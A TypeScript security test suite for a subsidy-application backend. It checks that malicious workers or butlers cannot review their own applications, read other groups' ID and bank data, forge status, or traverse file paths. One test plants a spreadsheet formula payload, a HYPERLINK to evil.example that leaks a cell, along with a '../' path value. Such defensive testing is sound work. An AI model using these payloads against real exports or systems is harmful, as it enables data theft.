/**
 * Attack on the subsidy applications (issue 12): what a malicious signed-in worker, or a butler of another
 * street, or a butler who is also an applicant tries against applications, materials, history, batches,
 * the export, 公示/objections and visits, through supabase-js as the personas. The one that found a hole
 * (a butler reviewing their own application) came first as a failing test and is fixed by migration
 * 20261203300000.
 *
 * Seed: group X (四方区兴隆路街道) has butlerX and butlerY as butlers and workerB as a member with three
 * applications (draft, submitted, approved in the street's batch); group Y (辽源路) has butlerY alone.
 */
import type { SupabaseClient } from '@supabase/supabase-js'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { startTestBackend, type TestBackend } from '../support/backend'
import { snapshotData, type DataSnapshot } from '../support/db-state'
import { groups, personas, type Personas } from '../support/personas'
import { failure } from '../support/question-desk'
import { readXlsx, unzip } from '../support/xlsx'

const programmes = { startup: '60000000-0000-4000-8000-000000000001', loan: '60000000-0000-4000-8000-000000000002', jobs: '60000000-0000-4000-8000-000000000004' } as const
const seeded = {
  draft: '50000000-0000-4000-8000-000000000001',
  submitted: '50000000-0000-4000-8000-000000000002',
  approved: '50000000-0000-4000-8000-000000000003',
} as const
const batchX = '70000000-0000-4000-8000-000000000001'
const batchY = '71000000-0000-4000-8000-000000000001'
const butlerOwn = '51000000-0000-4000-8000-000000000001'
const yApp = '51000000-0000-4000-8000-000000000002'
const SEEDED_RESIDENT_ID = '370203196808234012'
const SEEDED_ACCOUNT = '6231900012345678901'

let be: TestBackend
let p: Personas
let data: DataSnapshot
const untyped = (c: unknown) => c as SupabaseClient

beforeAll(async () => {
  be = await startTestBackend()
  p = await personas(be)
  const yStreet = (await be.db.query(`select district from public.groups where id = $1`, [groups.Y])).rows[0] as { district: string }
  // A locked batch of street Y (with nothing in it), and a submitted application of butlerX in their own group X
  // (a butler may be a member applicant too) with a credit code flagged for review.
  await be.db.query(
    `insert into public.application_batches (id, street, month, cutoff_at, status, locked_at, publicity_until)
     values ($1, $2, date_trunc('month', now())::date, now() - interval '1 day', 'locked', now() - interval '1 day', now() + interval '4 days')`,
    [batchY, yStreet.district],
  )
  await be.db.query(
    `insert into public.applications (id, applicant_id, programme_id, group_id, street, status, consent_notice_version, consented_at,
       real_name, resident_id, phone, bank_name, bank_account, requested_amount, credit_code, credit_code_needs_review, submitted_at)
     select $1, $2, $3, g.id, g.district, 'submitted', '2026-12', now(), '王自审', '370203197005123022', '13800002222',
            '青岛银行', '6228480012345678', 2000, '91370203MA3D5K2N78', true, now()
       from public.groups g where g.id = $4`,
    [butlerOwn, p.ids.butlerX, programmes.jobs, groups.X],
  )
  // A submitted application of workerB's reviewed by group Y (butlerY alone): none of butlerX's business.
  await be.db.query(
    `insert into public.applications (id, applicant_id, programme_id, group_id, street, status, consent_notice_version, consented_at,
       real_name, resident_id, phone, bank_name, bank_account, requested_amount, credit_code, credit_code_needs_review, submitted_at)
     select $1, $2, $3, g.id, g.district, 'submitted', '2026-12', now(), '李外街', '370203197005123022', '13800003333',
            '青岛银行', '6228480012345679', 2000, '91370203MA3D5K2N78', true, now()
       from public.groups g where g.id = $4`,
    [yApp, p.ids.workerB, programmes.loan, groups.Y],
  )
  data = await snapshotData(be)
})
afterAll(async () => {
  await be?.close()
})
afterEach(async () => {
  if ((await data.fingerprint()) !== data.baseline) await data.restore()
})

const rpc = (c: unknown, fn: string, args: Record<string, unknown>) => untyped(c).rpc(fn, args)

describe('a butler who is also an applicant', () => {
  it('cannot start, approve, reject, ask 补正 for or confirm the credit code of their own application', async () => {
    const attempts = [
      await rpc(p.butlerX, 'start_application_review', { application_id: butlerOwn }),
      await rpc(p.butlerX, 'approve_application', { application_id: butlerOwn, amount: 2000 }),
      await rpc(p.butlerX, 'reject_application', { application_id: butlerOwn, reason: '自己撤回' }),
      await rpc(p.butlerX, 'request_application_supplement', { application_id: butlerOwn, items: [{ kind: 'field', key: 'bank_account' }] }),
      await rpc(p.butlerX, 'confirm_credit_code', { application_id: butlerOwn }),
    ]
    for (const a of attempts) expect(failure(a)).toMatchObject({ code: '42501', message: '不能审核自己的申报' })
    const row = (await be.db.query(`select status, credit_code_needs_review from public.applications where id = $1`, [butlerOwn])).rows[0]
    expect(row).toEqual({ status: 'submitted', credit_code_needs_review: true })
  })

  it('cannot mark their own filed application disbursed; another butler of the street can', async () => {
    await be.db.query(`update public.application_batches set status = 'filed', locked_at = now() - interval '6 days', publicity_until = now() - interval '1 day', filed_at = now() where id = $1`, [batchX])
    await be.db.query(`update public.applications set status = 'filed', approved_amount = 2000, batch_id = $2, decided_at = now(), reviewer_id = $3 where id = $1`, [butlerOwn, batchX, p.ids.butlerY])
    const own = await rpc(p.butlerX, 'mark_application_disbursed', { application_id: butlerOwn, disbursed: true })
    expect(failure(own)).toMatchObject({ code: '42501', message: '不能审核自己的申报' })
    const other = await rpc(p.butlerY, 'mark_application_disbursed', { application_id: butlerOwn, disbursed: true })
    expect(other.error).toBeNull()
  })

  it('is reviewed by the other butler of the group as anyone else', async () => {
    const res = await rpc(p.butlerY, 'approve_application', { application_id: butlerOwn, amount: 2000 })
    expect(res.error).toBeNull()
    expect((res.data as { status: string }).status).toBe('approved')
  })
})

describe('reading another person’s resident ID or bank account', () => {
  it('no select, embed or RPC gives the full values to a worker who is not the applicant', async () => {
    const direct = await untyped(p.workerA).from('applications').select('id, resident_id').eq('id', seeded.submitted)
    expect(direct.error).not.toBeNull()
    const star = await untyped(p.butlerX).from('applications').select('*').eq('id', seeded.submitted)
    expect(star.error).not.toBeNull()
    const embed = await untyped(p.butlerX).from('profiles').select('id, applications(*)')
    expect(JSON.stringify(embed.data ?? '')).not.toContain(SEEDED_RESIDENT_ID)
    const sensitive = await rpc(p.workerA, 'application_sensitive', { application_id: seeded.submitted })
    expect(sensitive.error?.code).toBe('P0002')
    // butlerY is the butler of Y too, but a Y-only butler would not be; a worker of the same group is not a reviewer.
    const review = await rpc(p.workerA, 'application_review_queue', {})
    expect(review.data ?? []).toEqual([])
    const batchRows = await rpc(p.workerB, 'batch_applications', { batch_id: batchX })
    expect(batchRows.error?.code).toBe('42501')
  })

  it('embeds of applications from programmes, groups and batches show only what the caller may read', async () => {
    const viaProgrammes = await untyped(p.workerA).from('subsidy_programmes').select('id, applications(id, real_name, phone)')
    expect(viaProgrammes.error).toBeNull()
    expect((viaProgrammes.data as { applications: unknown[] }[]).flatMap((r) => r.applications)).toEqual([])
    const viaGroups = await untyped(p.workerA).from('groups').select('id, applications(id, real_name)')
    expect(JSON.stringify(viaGroups.data ?? [])).not.toContain('陈秀英')
    const otherGroup = await untyped(p.butlerX).from('subsidy_programmes').select('id, applications(id, real_name)')
    expect(JSON.stringify(otherGroup.data)).not.toContain('李外街')
    for (const table of ['application_materials', 'application_events', 'application_reveals', 'application_batches', 'batch_exports', 'batch_objections', 'incubation_visits', 'visit_applications']) {
      const res = await untyped(p.workerA).from(table).select('*')
      expect(res.data ?? [], table).toEqual([])
    }
  })

  it('RPCs returning the application row blank resident_id and bank_account, even for the applicant', async () => {
    const res = await rpc(p.butlerX, 'start_application_review', { application_id: seeded.submitted })
    expect(res.error).toBeNull()
    const row = res.data as Record<string, unknown>
    expect(row.resident_id).toBeNull()
    expect(row.bank_account).toBeNull()
    expect(row.resident_id_masked).toBe('3702**********4012')
  })

  it('history, notifications and the 公示 list carry no full ID, account or name', async () => {
    await rpc(p.butlerX, 'request_application_supplement', { application_id: seeded.submitted, items: [{ kind: 'field', key: 'bank_account' }] })
    const events = await untyped(p.workerB).from('application_events').select('note, detail')
    const notes = await be.db.query(`select title, body, payload::text as payload from public.notifications where kind like 'application%'`)
    const blob = JSON.stringify([events.data, notes.rows])
    expect(blob).not.toContain(SEEDED_RESIDENT_ID)
    expect(blob).not.toContain(SEEDED_ACCOUNT)
    await be.db.query(`update public.application_batches set status = 'locked', locked_at = now(), publicity_until = now() + interval '5 days' where id = $1`, [batchX])
    const list = await rpc(p.workerA, 'publicity_list', { batch_id: batchX })
    expect(list.error).toBeNull()
    const rows = list.data as Record<string, unknown>[]
    expect(rows.length).toBeGreaterThan(0)
    for (const r of rows) {
      expect(Object.keys(r).sort()).toEqual(['application_id', 'approved_amount', 'masked_name', 'programme_name'])
      expect(String(r.masked_name)).toContain('*')
    }
  })
})

describe('a butler of another group', () => {
  it('cannot read, reveal, review or confirm an application of a group they are not butler of', async () => {
    const read = await untyped(p.butlerX).from('applications').select('id, real_name, phone').eq('id', yApp)
    expect(read.data).toEqual([])
    for (const [fn, args] of [
      ['application_sensitive', {}],
      ['start_application_review', {}],
      ['approve_application', { amount: 2000 }],
      ['reject_application', { reason: '不符合条件' }],
      ['request_application_supplement', { items: [{ kind: 'field', key: 'phone' }] }],
      ['confirm_credit_code', {}],
    ] as const) {
      const res = await rpc(p.butlerX, fn, { application_id: yApp, ...args })
      expect(res.error?.code, fn).toBe('P0002')
    }
    const row = (await be.db.query(`select status, credit_code_needs_review from public.applications where id = $1`, [yApp])).rows[0]
    expect(row).toEqual({ status: 'submitted', credit_code_needs_review: true })
    expect((await be.db.query(`select count(*)::int as n from public.application_reveals`)).rows[0]).toEqual({ n: 0 })
  })
})

describe('forging state and locked fields', () => {
  it('a worker can neither insert nor upsert an application nor set its status through the draft RPC', async () => {
    const upsert = await untyped(p.workerB)
      .from('applications')
      .upsert({ id: seeded.submitted, applicant_id: p.ids.workerB, programme_id: programmes.jobs, group_id: groups.X, street: 'x', status: 'approved', approved_amount: 99999 })
    expect(upsert.error).not.toBeNull()
    const status = await rpc(p.workerB, 'save_application_draft', { application_id: seeded.draft, programme_id: null, fields: { status: 'approved' } })
    expect(failure(status).code).toBe('22023')
    const own = await rpc(p.workerB, 'approve_application', { application_id: seeded.submitted, amount: 4000 })
    expect(own.error?.code).toBe('42501')
    expect((await be.db.query(`select status from public.applications where id = $1`, [seeded.submitted])).rows[0]).toEqual({ status: 'submitted' })
  })

  it('during 补正 an unlisted field (or the group) cannot change; the listed one can', async () => {
    const asked = await rpc(p.butlerX, 'request_application_supplement', { application_id: seeded.submitted, items: [{ kind: 'field', key: 'phone' }] })
    expect(asked.error).toBeNull()
    const bank = await rpc(p.workerB, 'save_application_draft', { application_id: seeded.submitted, programme_id: null, fields: { bank_account: '622848001234567890' } })
    expect(failure(bank)).toMatchObject({ code: '42501' })
    const cleared = await rpc(p.workerB, 'save_application_draft', { application_id: seeded.submitted, programme_id: null, fields: { resident_id: null } })
    expect(failure(cleared)).toMatchObject({ code: '42501' })
    const group = await rpc(p.workerB, 'save_application_draft', { application_id: seeded.submitted, programme_id: null, fields: { group_id: groups.X } })
    expect(failure(group)).toMatchObject({ code: '42501' })
    const phone = await rpc(p.workerB, 'save_application_draft', { application_id: seeded.submitted, programme_id: null, fields: { phone: '13900001111' } })
    expect(phone.error).toBeNull()
    const row = (await be.db.query(`select bank_account, resident_id, phone from public.applications where id = $1`, [seeded.submitted])).rows[0]
    expect(row).toEqual({ bank_account: SEEDED_ACCOUNT, resident_id: SEEDED_RESIDENT_ID, phone: '13900001111' })
  })

  it('a material cannot be another person’s or another application’s object', async () => {
    for (const path of [`${p.ids.workerA}/${seeded.draft}/id.jpg`, `${p.ids.workerB}/${seeded.submitted}/id.jpg`, `${p.ids.workerB}/${seeded.draft}/../x/id.jpg`]) {
      const res = await rpc(p.workerB, 'attach_application_material', { application_id: seeded.draft, material_key: 'id_card', path })
      expect(res.error).not.toBeNull()
    }
    const foreign = await rpc(p.workerA, 'attach_application_material', { application_id: seeded.draft, material_key: 'id_card', path: `${p.ids.workerA}/${seeded.draft}/id.jpg` })
    expect(foreign.error?.code).toBe('P0002')
  })
})

describe('batches, export and 公示 of another street', () => {
  it('a butler of X cannot read, export or file street Y’s batch; a worker cannot export at all', async () => {
    for (const fn of ['batch_export_rows', 'batch_export', 'batch_completeness', 'mark_batch_filed', 'batch_applications']) {
      const res = await rpc(p.butlerX, fn, { batch_id: batchY })
      expect(res.error?.code, fn).toBe('P0002')
      const worker = await rpc(p.workerB, fn, { batch_id: batchX })
      expect(worker.error?.code, fn).toBe('42501')
    }
    const read = await untyped(p.butlerX).from('application_batches').select('id').eq('id', batchY)
    expect(read.data).toEqual([])
    expect((await be.db.query(`select count(*)::int as n from public.batch_exports`)).rows[0]).toEqual({ n: 0 })
  })

  it('objections: bodies over 500 characters are refused, and a fourth in a minute is refused', async () => {
    const huge = await rpc(p.workerA, 'raise_objection', { batch_id: batchY, body: '异'.repeat(501) })
    expect(failure(huge).code).toBe('22023')
    for (let i = 0; i < 3; i++) expect((await rpc(p.workerA, 'raise_objection', { batch_id: batchY, body: `第${i}条异议内容` })).error).toBeNull()
    const fourth = await rpc(p.workerA, 'raise_objection', { batch_id: batchY, body: '第四条异议内容' })
    expect(failure(fourth).code).toBe('P0001')
    const notMine = await untyped(p.workerB).from('batch_objections').select('id')
    expect(notMine.data).toEqual([])
  })

  it('a visit of street Y cannot link an application of street X', async () => {
    const yStreet = ((await be.db.query(`select district from public.groups where id = $1`, [groups.Y])).rows[0] as { district: string }).district
    const visit = await rpc(p.butlerY, 'save_visit', { visit_id: null, fields: { street: yStreet, base_name: '辽源路孵化基地', visited_on: '2026-11-30' } })
    expect(visit.error).toBeNull()
    const id = (visit.data as { id: string }).id
    const link = await rpc(p.butlerY, 'link_visit_application', { visit_id: id, application_id: seeded.submitted, linked: true })
    expect(failure(link).code).toBe('22023')
    const xOnly = await rpc(p.butlerX, 'save_visit', { visit_id: null, fields: { street: yStreet, base_name: '辽源路孵化基地', visited_on: '2026-11-30' } })
    expect(failure(xOnly).code).toBe('22023')
    const other = await rpc(p.butlerX, 'link_visit_application', { visit_id: id, application_id: seeded.submitted, linked: true })
    expect(other.error?.code).toBe('P0002')
  })
})

describe('the exported roster', () => {
  it('a business name written as a formula stays text in the .xlsx, never a formula', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&C2,"点击核对")'
    await be.db.query(`update public.applications set business_name = $2 where id = $1`, [seeded.approved, evil])
    await be.db.query(`update public.application_batches set status = 'locked', locked_at = now(), publicity_until = now() + interval '5 days' where id = $1`, [batchX])
    const token = await be.signToken({ sub: p.ids.butlerX })
    const res = await fetch(`${be.url}/functions/v1/application-export?batch=${batchX}`, { headers: { apikey: be.anonKey, Authorization: `Bearer ${token}` } })
    expect(res.status).toBe(200)
    const bytes = Buffer.from(await res.arrayBuffer())
    const files = unzip(bytes)
    const sheet = [...files.entries()].find(([k]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(k))![1].toString('utf8')
    expect(sheet).not.toMatch(/<f[ >]/)
    const cell = readXlsx(bytes).rows[1]!.find((c) => c.value === evil)
    expect(cell?.kind).toBe('text')
  })
})
